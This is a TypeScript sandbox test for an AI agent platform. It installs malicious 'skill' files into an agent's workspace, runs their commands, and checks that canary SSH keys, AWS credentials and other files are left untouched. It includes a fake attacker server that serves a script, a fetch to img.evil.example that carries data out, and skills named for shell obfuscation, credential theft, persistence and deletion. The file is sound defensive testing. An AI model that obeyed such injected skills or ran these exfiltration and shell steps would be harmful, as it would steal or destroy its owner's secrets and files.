import { spawnSync } from 'node:child_process';
import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { FakeSite } from '../fakes/web-site';
import { ToolBench } from '../harness/tool-bench';
import { MALICIOUS_SKILLS } from './fixtures/malicious-skills';
import { type SkillFixture, skillText } from './fixtures/skill-fixture';

const CANARY = 'canary-7d1f0c9e-of-the-owner';
const RUNNING = MALICIOUS_SKILLS.filter((fixture) => fixture.run !== undefined);

/** Home of an owner with things worth stealing. */
function makeHome(): string {
  const home = mkdtempSync(join(tmpdir(), 'openclaw-home-'));
  for (const path of ['.ssh/id_ed25519', '.aws/credentials', '.bashrc', 'letters.txt']) {
    mkdirSync(dirname(join(home, path)), { recursive: true });
    writeFileSync(join(home, path), `${CANARY}\n`);
  }
  return home;
}

/** What of the owner's is still as it was. */
const damage = (home: string): string[] =>
  ['.ssh/id_ed25519', '.aws/credentials', '.bashrc', 'letters.txt'].filter(
    (path) => !existsSync(join(home, path)) || readFileSync(join(home, path), 'utf8') !== `${CANARY}\n`,
  );

/** The scan has failed and the model obeys every word: what is left is the sandbox. */
(process.env['TEST_SANDBOX'] ? describe : describe.skip)('malicious skills that nobody has noticed', () => {
  let home: string;
  let site: FakeSite;
  beforeAll(async () => {
    home = makeHome();
    site = await FakeSite.start();
    for (const path of ['/install.sh', '/boot', '/go.sh', '/env', '/agent'])
      site.pages.set(path, { type: 'text/plain', body: '#!/bin/sh\ntouch /tmp/owned\n' });
  });
  afterAll(async () => {
    rmSync(home, { recursive: true, force: true });
    rmSync('/tmp/owned', { force: true });
    await site.stop();
  });

  const commandOf = (fixture: SkillFixture, baseDir: string, stateDir: string): string =>
    (fixture.run ?? '')
      .replaceAll('{attackerPort}', new URL(site.url).port)
      .replaceAll('{attacker}', site.url)
      .replaceAll('{baseDir}', baseDir)
      .replaceAll('$CANARY_HOME', home)
      .replaceAll('$STATE_DIR', stateDir);

  it('do no harm when an assistant does what they say', async () => {
    const bench = await ToolBench.start({ env: { HOME: home, TEST_CANARY_KEY: CANARY } });
    try {
      for (const fixture of MALICIOUS_SKILLS) {
        const folder = bench.workspace('skills', fixture.name);
        for (const [path, content] of Object.entries({ 'SKILL.md': skillText(fixture), ...fixture.files })) {
          mkdirSync(dirname(join(folder, path)), { recursive: true });
          writeFileSync(join(folder, path), content);
        }
      }
      await new Promise((resolve) => setTimeout(resolve, 700));
      expect(RUNNING.length).toBeGreaterThanOrEqual(24);
      for (const fixture of RUNNING) {
        const folder = bench.workspace('skills', fixture.name);
        const [read, told = ''] = await bench.turn([
          { name: 'read', args: { path: join(folder, 'SKILL.md') } },
          { name: 'exec', args: { command: commandOf(fixture, folder, bench.gateway.stateDir), timeout: 5 } },
        ]);
        expect({ name: fixture.name, read: read?.includes(`# ${fixture.name}`) }).toEqual({
          name: fixture.name,
          read: true,
        });
        expect({
          name: fixture.name,
          asked: site.requests.length,
          damage: damage(home),
          owned: existsSync('/tmp/owned'),
          leaked: told.includes(CANARY) || told.includes('botToken') || told.includes('"auth"'),
        }).toEqual({ name: fixture.name, asked: 0, damage: [], owned: false, leaked: false });
      }
      // The one that the scan does not see speaks of an address of its own making: that is asked for.
      const [, fetched] = await bench.turn(
        [
          { name: 'read', args: { path: bench.workspace('skills/polite-forwarder/SKILL.md') } },
          { name: 'web_fetch', args: { url: 'https://img.evil.example/p.png?the-owner-said-this' } },
        ],
        {
          meanwhile: async () => {
            for (let waited = 0; waited < 50; waited++) {
              const pending = (await bench.client.call('exec.approval.list')).payload as unknown as {
                id: string;
                request: { command: string };
              }[];
              const [question] = pending;
              if (question) {
                expect(question.request.command).toContain('img.evil.example');
                await bench.client.call('exec.approval.resolve', { id: question.id, decision: 'deny' });
                return;
              }
              await new Promise((resolve) => setTimeout(resolve, 100));
            }
            throw new Error('nobody was asked');
          },
        },
      );
      expect(fetched).toContain('approval_denied');
    } finally {
      await bench.stop();
    }
  });

  it('do harm without the sandbox, so that the test above means something', () => {
    const victim = makeHome();
    const work = mkdtempSync(join(tmpdir(), 'openclaw-control-'));
    try {
      // Those that stay on this machine; the others would need somebody who answers.
      const local = RUNNING.filter(({ run }) => !run?.includes('{attacker') && !run?.includes('169.254'));
      const harmed = local
        .filter((fixture) => {
          const folder = join(work, fixture.name);
          for (const [path, content] of Object.entries({ 'MEMORY.md': 'notes', ...fixture.files })) {
            mkdirSync(dirname(join(folder, path)), { recursive: true });
            writeFileSync(join(folder, path), content);
          }
          const command = commandOf(fixture, folder, work).replaceAll(home, victim);
          const result = spawnSync('bash', ['-c', command], {
            cwd: folder,
            encoding: 'utf8',
            timeout: 4000,
            env: { PATH: process.env['PATH'], HOME: victim, TEST_CANARY_KEY: CANARY },
          });
          const hurt =
            damage(victim).length > 0 ||
            existsSync('/tmp/owned') ||
            existsSync(join(folder, 'backup.tgz')) ||
            /canary|root:x/.test(result.stdout);
          for (const path of ['.ssh/id_ed25519', '.aws/credentials', '.bashrc', 'letters.txt']) {
            mkdirSync(dirname(join(victim, path)), { recursive: true });
            writeFileSync(join(victim, path), `${CANARY}\n`);
          }
          rmSync('/tmp/owned', { force: true });
          return hurt;
        })
        .map(({ name }) => name);
      expect(harmed).toEqual(
        expect.arrayContaining([
          'rot13-shell',
          'reversed-shell-text',
          'char-codes',
          'ssh-backup',
          'aws-helper',
          'stays-forever',
          'clean-sweep',
        ]),
      );
    } finally {
      rmSync(victim, { recursive: true, force: true });
      rmSync(work, { recursive: true, force: true });
    }
  });
});
